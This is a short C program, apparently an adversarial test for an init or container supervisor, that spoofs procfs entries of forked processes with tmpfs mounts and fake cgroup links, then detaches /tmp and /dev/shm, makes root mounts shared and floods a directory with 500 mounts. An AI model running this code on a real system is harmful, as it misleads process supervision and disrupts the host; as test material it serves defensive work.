// SPDX-License-Identifier: MIT
/*
 * For one who may mount: leaves processes behind that cover what PID 1 would look at in procfs, and one in a PID
 * namespace of its own below, and unmounts what can be unmounted.
 */
#include "attack.h"

#include <sched.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

static pid_t leave_one(void)
{
	pid_t pid = fork();

	if (pid > 0)
		return pid;
	setsid();
	for (;;)
		pause();
}

static void cover(pid_t pid, const char *what)
{
	char path[64], link[96];

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, what);
	MUST_BE("mounting over it", mount("cover", path, "tmpfs", 0, NULL) == 0);
	snprintf(link, sizeof(link), "%s/cgroup", path);
	MUST_BE("a link in it", symlink("cgroup:[4026531835]", link) == 0);
}

int main(void)
{
	cover(leave_one(), "ns");
	cover(leave_one(), "task");
	MUST_BE("a PID namespace", unshare(CLONE_NEWPID) == 0);
	leave_one();
	umount2("/tmp", MNT_DETACH);
	umount2("/dev/shm", MNT_DETACH);
	sethostname("mine", 4);
	MUST_BE("a mount", mkdir("/spread", 0755) == 0 && mount("spread", "/spread", "tmpfs", 0, NULL) == 0);
	mount(NULL, "/", NULL, MS_REC | MS_SHARED, NULL);
	mount("/", "/spread", NULL, MS_BIND | MS_REC, NULL);
	for (int i = 0; i < 500; i++)
		mount("many", "/spread", "tmpfs", 0, NULL);
	return attack_succeeded;
}
